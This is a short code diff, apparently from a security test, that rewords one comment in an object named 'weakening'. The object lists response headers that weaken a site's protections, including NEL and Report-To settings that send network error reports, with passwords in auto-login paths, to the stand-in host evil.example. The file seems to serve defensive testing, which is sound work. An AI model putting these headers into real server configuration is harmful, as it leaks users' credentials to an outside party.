@@ -14,7 +14,7 @@ const weakening = {
   'x-content-type-options': 'off',
   'cache-control': 'public, max-age=600',
   'clear-site-data': '"storage"',
-  // With this header the browser would report network errors to another site, with the passwords in auto-login paths.
+  // This header would make the browser report network errors, with the passwords in auto-login paths, to another site.
   nel: '{"report_to":"evil","max_age":600}',
   'report-to': '{"group":"evil","max_age":600,"endpoints":[{"url":"https://evil.example"}]}',
   'reporting-endpoints': 'evil="https://evil.example"',
